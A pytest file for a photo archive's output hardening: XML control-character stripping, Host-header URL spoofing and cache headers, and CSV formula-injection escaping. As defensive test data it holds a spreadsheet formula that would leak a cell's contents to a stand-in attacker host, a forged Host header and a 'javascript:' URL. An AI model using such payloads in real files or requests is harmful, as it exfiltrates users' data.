"""Clean output (issue 13, item 4): what the archive writes is well-formed, addressed by the operator,
and inert in a spreadsheet.

(a) Control characters in one photo's IPTC title made the whole Atom feed invalid XML. A real import
    of files whose title, caption, creator, keywords and city carry C0 and C1 controls and
    non-characters, into a demonstration named with them, then the feed parsed by a strict XML
    parser, the XMP in downloads and sidecars likewise, and the pages checked for the characters.
(b) The feed's absolute URLs followed the request's Host header while the feed was publicly
    cacheable. With a public URL configured (`ingest settings public-url`, or INGEST_PUBLIC_URL),
    every absolute URL starts with it whatever Host says; without one, the feed and downloads are
    `Cache-Control: private, no-store` and the photo page's credit line links root-relative.
(c) `ingest export-csv` wrote a file-supplied caption `=HYPERLINK(...)` raw, to run as a formula
    on the archivist's machine. Formula-like cells are written with a leading apostrophe, and
    `import-csv` undoes exactly that.
"""

from __future__ import annotations

import json

import csv
import io
import re
from pathlib import Path
from xml.etree import ElementTree as ET
from xml.parsers import expat

import pytest
import yaml
from datasette.app import Datasette
from datasette_versions import DATASETTE_1
from fixtures.synth import make_photo

from ingest.catalogue import settings
from ingest.catalogue.csv_roundtrip import from_cell, to_cell
from ingest.catalogue.schema import connect
from ingest.importer.pipeline import run_ingest
from ingest.importer.resolve import Options
from ingest.media.jpeg import APP1, XMP_APP1, segments
from ingest.media.store import Store
from ingest.text import xml_safe

ROOT = Path(__file__).resolve().parents[1]
ATOM = "{http://www.w3.org/2005/Atom}"
# C0 (not tab, newline), DEL, C1 and the two non-characters XML 1.0 forbids or discourages.
BAD = "\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x80\x85\x9b\x9f\ufffe\uffff"
_BAD_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
NEXT_URL = "&_extra=next_url" if DATASETTE_1 else ""  # 1.0 gives next_url only when asked
HOSTILE = "evil.example"
PUBLIC = "https://photos.example.org"


def strict_xml(data: bytes) -> ET.Element:
    """Parse with expat, which refuses what XML 1.0 forbids; and nothing XML discourages either."""
    parser = expat.ParserCreate()
    parser.Parse(data, True)
    text = data.decode("utf-8")
    assert not _BAD_RE.search(text), repr(_BAD_RE.search(text).group())
    return ET.fromstring(data)


def _metadata(base: Path) -> dict:
    metadata = yaml.safe_load((ROOT / "metadata.yml").read_text())
    metadata.setdefault("plugins", {})["gallery"] = {"store": str(base / "archive")}
    return metadata


@pytest.fixture(scope="module")
def gallery(tmp_path_factory):
    """Two real imports: a photo whose IPTC (read as UTF-8 and as Latin-1) and XMP carry control
    characters in every text field, into a demonstration named with them; and a plain one."""
    base = tmp_path_factory.mktemp("clean-output")
    card = base / "card"
    make_photo(card / "dirty.jpg", width=320, height=240, seed=31,
               exif={"DateTimeOriginal": "2024:11:02 14:30:12", "OffsetTimeOriginal": "+00:00"},
               iptc={"Object Name": f"Title{BAD}end", "Caption/Abstract": f"Caption{BAD}end",
                     "By-line": f"Creator{BAD}end", "Keywords": [f"key{BAD}word", "plain"],
                     "City": f"Town{BAD}ville"})
    make_photo(card / "plain.jpg", width=320, height=240, seed=32,
               exif={"DateTimeOriginal": "2024:11:02 15:30:12", "OffsetTimeOriginal": "+00:00"},
               xmp={"dc:title": "Plain march"})
    db = connect(base / "gallery.db")
    try:
        summary = run_ingest(db, Store(base / "archive"), [str(card / "dirty.jpg")],
                             Options(licence="CC-BY-4.0", creator="Photo desk", demo=f"Stop{BAD}war"), publish=True)
        assert summary.imported == 1, summary
        assert run_ingest(db, Store(base / "archive"), [str(card / "plain.jpg")],
                          Options(licence="CC-BY-4.0", creator="Photo desk"), publish=True).imported == 1
        # The readers drop control characters (issue 15): what they imported is clean. The outputs
        # must still clean what another writer (the sqlite3 shell, an old catalogue) put there.
        imported = db.execute("SELECT title, caption, creator FROM photos WHERE original_filename = 'dirty.jpg'").fetchone()
        assert imported == ("Titleend", "Captionend", "Creatorend"), imported
        with db.conn:
            db.conn.execute("UPDATE photos SET title = ?, caption = ?, creator = ?, keywords = ? "
                            "WHERE original_filename = 'dirty.jpg'",
                            [f"Title{BAD}end", f"Caption{BAD}end", f"Creator{BAD}end",
                             json.dumps([f"key{BAD}word", "plain"], ensure_ascii=False)])
        row = db.execute("SELECT p.id, p.title, p.caption, p.creator, p.keywords, c.name, d.name FROM photos p "
                         "LEFT JOIN cities c ON c.id = p.city_id LEFT JOIN demonstrations d ON "
                         "d.id = p.demonstration_id WHERE p.original_filename = 'dirty.jpg'").fetchone()
    finally:
        db.conn.close()
    return base, row


def test_the_dirty_photo_is_what_it_claims(gallery):
    """Otherwise the tests below prove nothing: the catalogue holds the characters (written there
    after the import, which drops them)."""
    _, (photo_id, title, caption, creator, keywords, city, demo) = gallery
    for value in (title, caption, creator, keywords, demo):
        assert value and _BAD_RE.search(value), value
    assert "\x07" in title and "\x85" in caption and "\ufffe" in creator


def test_xml_safe_drops_what_xml_cannot_carry():
    assert xml_safe(f"a{BAD}\ud800\udfffb\tc\nd") == "ab\tc\nd"
    assert xml_safe("Zoë Müller — “quoted” 😀") == "Zoë Müller — “quoted” 😀"


async def test_the_feed_is_well_formed_xml_whatever_the_titles_hold(gallery):
    base, (photo_id, *_) = gallery
    ds = Datasette([str(base / "gallery.db")], metadata=_metadata(base))
    r = await ds.client.get("/-/gallery/feed.atom")
    assert r.status_code == 200
    root = strict_xml(r.content)
    entry = next(e for e in root.iter(f"{ATOM}entry") if e.find(f"{ATOM}id").text.endswith(f"/photos/{photo_id}"))
    assert entry.find(f"{ATOM}title").text == "Titleend"
    assert entry.find(f"{ATOM}author/{ATOM}name").text == "Creatorend"
    summary = entry.find(f"{ATOM}summary").text
    assert "Captionend" in summary and not _BAD_RE.search(summary)
    demo_slug = (await ds.client.get("/gallery/demonstrations.json?_shape=array")).json()
    for kind, rows in (("demonstration", demo_slug),):
        for row in rows:
            if row.get("slug"):
                strict_xml((await ds.client.get(f"/-/gallery/feed.atom?{kind}={row['slug']}")).content)


async def test_downloads_and_sidecars_carry_well_formed_xmp(gallery, tmp_path, cli):
    base, (photo_id, *_) = gallery
    ds = Datasette([str(base / "gallery.db")], metadata=_metadata(base))
    for size in ("original", "web"):
        data = (await ds.client.get(f"/-/gallery/download/{photo_id}?size={size}")).content
        packets = [s.payload[len(XMP_APP1):] for s in segments(data, through_scans=True)
                   if s.marker == APP1 and s.startswith(XMP_APP1)]
        assert len(packets) == 1
        body = packets[0].split(b"?>", 1)[1].rsplit(b"<?xpacket", 1)[0]
        assert b"Titleend" in body and b"Townville" in body
        strict_xml(body)
    runner_args = ["--db", str(base / "gallery.db"), "--store", str(base / "archive")]
    result = cli(*runner_args, "sidecars", str(photo_id), "--to", str(tmp_path), archive_args=False)
    assert result.exit_code == 0, result.output
    sidecar = next(tmp_path.glob("*.xmp"))
    body = sidecar.read_bytes()
    strict_xml(body.split(b"?>", 1)[1].rsplit(b"<?xpacket", 1)[0])


async def test_pages_carry_no_control_characters(gallery):
    base, (photo_id, *_) = gallery
    ds = Datasette([str(base / "gallery.db")], metadata=_metadata(base))
    demos = (await ds.client.get("/gallery/demonstrations.json?_shape=array")).json()
    cities = (await ds.client.get("/gallery/cities.json?_shape=array")).json()
    urls = [f"/gallery/photos/{photo_id}", "/gallery/photos", "/-/gallery/demonstrations", "/-/gallery/cities"]
    urls += [f"/-/gallery/demonstrations/{d['slug']}" for d in demos if d.get("slug")]
    urls += [f"/-/gallery/cities/{c['slug']}" for c in cities if c.get("slug")]
    for url in urls:
        r = await ds.client.get(url)
        assert r.status_code == 200, url
        found = _BAD_RE.search(r.text)
        assert found is None, (url, repr(found and r.text[max(0, found.start() - 60):found.end() + 20]))
    page = (await ds.client.get(f"/gallery/photos/{photo_id}")).text
    assert "Titleend" in page and "Creatorend" in page


# ---------------------------------------------------------------- (b) the Host header

def _urls(root: ET.Element) -> list[str]:
    found = [e.text for e in root.iter(f"{ATOM}id")]
    found += [e.get("href") for e in root.iter(f"{ATOM}link") if e.get("rel") != "license"]
    for summary in root.iter(f"{ATOM}summary"):
        found += re.findall(r'(?:href|src)="([^"]+)"', summary.text)
    for rights in root.iter(f"{ATOM}rights"):
        found += re.findall(r"Source: (\S+)", rights.text)
    return [u for u in found if not u.startswith("https://creativecommons.org/")]  # licence links


def _configure(base: Path, value: str | None) -> None:
    db = connect(base / "gallery.db")
    try:
        with db.conn:
            settings.put(db, "public-url", value)
    finally:
        db.conn.close()


@pytest.mark.parametrize("how", ["setting", "environment"])
async def test_a_hostile_host_never_reaches_a_cacheable_feed_or_credit_line(gallery, monkeypatch, how):
    base, (photo_id, *_) = gallery
    if how == "setting":
        _configure(base, PUBLIC + "/")
        monkeypatch.delenv("INGEST_PUBLIC_URL", raising=False)
    else:
        _configure(base, None)
        monkeypatch.setenv("INGEST_PUBLIC_URL", PUBLIC)
    try:
        ds = Datasette([str(base / "gallery.db")], metadata=_metadata(base))
        r = await ds.client.get("/-/gallery/feed.atom", headers={"host": HOSTILE})
        assert r.status_code == 200 and HOSTILE not in r.text
        urls = _urls(strict_xml(r.content))
        assert urls and all(u.startswith(PUBLIC + "/") for u in urls), urls
        assert f"{PUBLIC}/gallery/photos/{photo_id}" in urls
        assert r.headers["cache-control"] == "public, max-age=5"  # Datasette's default_cache_ttl
        page = await ds.client.get(f"/gallery/photos/{photo_id}", headers={"host": HOSTILE})
        assert HOSTILE not in page.text and f"Source: {PUBLIC}/gallery/photos/{photo_id}" in page.text
        table = await ds.client.get("/gallery/photos.json?_size=1" + NEXT_URL, headers={"host": HOSTILE})
        assert table.json()["next_url"].startswith(PUBLIC + "/gallery/photos.json?")
        for url in (f"/-/gallery/download/{photo_id}?size=web", f"/-/gallery/download.zip?id={photo_id}"):
            download = await ds.client.get(url, headers={"host": HOSTILE})
            assert HOSTILE.encode() not in download.content
            assert f"{PUBLIC}/gallery/photos/{photo_id}".encode() in download.content or url.endswith(str(photo_id))
    finally:
        _configure(base, None)


async def test_without_a_public_url_nothing_host_made_is_publicly_cacheable(gallery, monkeypatch):
    base, (photo_id, *_) = gallery
    monkeypatch.delenv("INGEST_PUBLIC_URL", raising=False)
    ds = Datasette([str(base / "gallery.db")], metadata=_metadata(base))
    r = await ds.client.get("/-/gallery/feed.atom", headers={"host": HOSTILE})
    strict_xml(r.content)
    assert r.headers["cache-control"] == "private, no-store"
    for url in (f"/-/gallery/download/{photo_id}?size=web", f"/-/gallery/download.zip?id={photo_id}"):
        download = await ds.client.get(url, headers={"host": HOSTILE})
        assert download.status_code == 200 and download.headers["cache-control"].startswith("private"), url
    # The photo page's credit line links root-relative; Datasette's own links (its alternate link)
    # follow the Host, so its answer, cacheable for a few seconds, is cacheable by this client only.
    page = await ds.client.get(f"/gallery/photos/{photo_id}", headers={"host": HOSTILE})
    assert page.status_code == 200 and f"Source: /gallery/photos/{photo_id}" in page.text
    assert f"Source: http://{HOSTILE}" not in page.text
    assert page.headers["cache-control"].startswith("private"), page.headers["cache-control"]
    table = await ds.client.get("/gallery/photos.json?_size=1" + NEXT_URL, headers={"host": HOSTILE})
    assert table.headers["cache-control"].startswith("private") and HOSTILE in table.json()["next_url"]


@pytest.mark.parametrize("value, fragment", [
    ("ftp://photos.example.org", "http"), ("photos.example.org", "http"), ("https://", "http"),
    ("https://photos.example.org/?a=1", "query"), ("https://photos.example.org/#top", "fragment"),
    ("https://anna:secret@photos.example.org", "user"), ("https://photos.example.org/a b", "space"),
])
def test_the_public_url_setting_refuses_bad_values_in_one_line(cli, value, fragment):
    result = cli("settings", "public-url", value)
    assert result.exit_code != 0
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines[-1]) < 200 and fragment in lines[-1] and "Traceback" not in result.output, result.output


def test_the_public_url_setting_is_stored_without_its_trailing_slash(cli):
    assert cli("settings", "public-url", "https://photos.example.org/archive/").exit_code == 0
    assert cli("settings", "public-url").output.strip() == "https://photos.example.org/archive"


def test_export_uses_the_public_url_setting_for_the_source_link(cli, tmp_path, monkeypatch):
    monkeypatch.delenv("INGEST_PUBLIC_URL", raising=False)
    make_photo(tmp_path / "in" / "one.jpg", width=200, height=150, seed=33, xmp={"dc:title": "One"})
    assert cli("--jobs", "1", str(tmp_path / "in")).exit_code in (0, 1)
    assert cli("settings", "public-url", PUBLIC).exit_code == 0
    result = cli("export", "1", "--to", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert f"Source: {PUBLIC}/gallery/photos/1" in result.output
    assert cli("export", "1", "--to", str(tmp_path / "out"), "--base-url", "javascript:alert(1)").exit_code != 0


# ---------------------------------------------------------------- (c) spreadsheet formulas

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full photo")'


@pytest.fixture
def formula_archive(cli, tmp_path):
    card = tmp_path / "in"
    make_photo(card / "one.jpg", width=200, height=150, seed=34,
               xmp={"dc:title": "+SUM(1,2)", "dc:description": FORMULA, "dc:creator": ["@creator"],
                    "dc:subject": ["-minus", "plain"]})
    make_photo(card / "two.jpg", width=200, height=150, seed=35, xmp={"dc:title": "'=already quoted",
                                                                       "dc:description": "'Tis a plain caption"})
    assert cli("--jobs", "1", str(card)).exit_code in (0, 1)
    return tmp_path


def _read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]


@pytest.mark.parametrize("text", ["=x", "+1", "-", "@@a", "\t=1", "\r=1", "'=x", "''=x", "'", "''", "'Tis",
                                  "", "plain", "'+1", "a=b", " =1"])
def test_the_apostrophe_is_undone_exactly(text):
    cell = to_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert from_cell(cell) == text


def test_export_csv_writes_no_cell_a_spreadsheet_would_run(cli, formula_archive):
    out = formula_archive / "photos.csv"
    assert cli("export-csv", "-o", str(out)).exit_code == 0
    cells = _cells(out)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    one, two = _read(out)
    assert (one["caption"], one["title"], one["creator"]) == ("'" + FORMULA, "'+SUM(1,2)", "'@creator")
    assert one["keywords"] == "'-minus, plain"
    assert (two["title"], two["caption"]) == ("''=already quoted", "'Tis a plain caption")


def _catalogue(cli) -> list[tuple]:
    db = connect(cli.db_path)
    try:
        return db.execute("SELECT id, title, caption, creator, keywords FROM photos ORDER BY id").fetchall()
    finally:
        db.conn.close()


def test_a_round_trip_without_edits_changes_nothing(cli, formula_archive):
    out = formula_archive / "photos.csv"
    before = _catalogue(cli)
    assert cli("export-csv", "-o", str(out)).exit_code == 0
    result = cli("import-csv", str(out), "--apply")
    assert result.exit_code == 0, result.output
    assert "0 cells changed" in result.output, result.output
    assert _catalogue(cli) == before


def test_a_cell_the_archivist_wants_to_start_with_equals_survives(cli, formula_archive):
    out = formula_archive / "photos.csv"
    assert cli("export-csv", "-o", str(out)).exit_code == 0
    rows = _read(out)
    rows[0]["title"] = "=2+2 is a slogan"              # typed raw in a text editor
    rows[1]["title"] = "'=3+3 as a spreadsheet shows it"  # the apostrophe a spreadsheet keeps
    rows[1]["caption"] = "'Tis still plain"
    _write(out, rows)
    result = cli("import-csv", str(out), "--apply")
    assert result.exit_code == 0, result.output
    after = {r[0]: r for r in _catalogue(cli)}
    first, second = sorted(after)
    assert after[first][1] == "=2+2 is a slogan"
    assert (after[second][1], after[second][2]) == ("=3+3 as a spreadsheet shows it", "'Tis still plain")
    assert after[first][2] == FORMULA  # the untouched cell kept its value
    assert cli("export-csv", "-o", str(out)).exit_code == 0
    assert _read(out)[0]["title"] == "'=2+2 is a slogan"
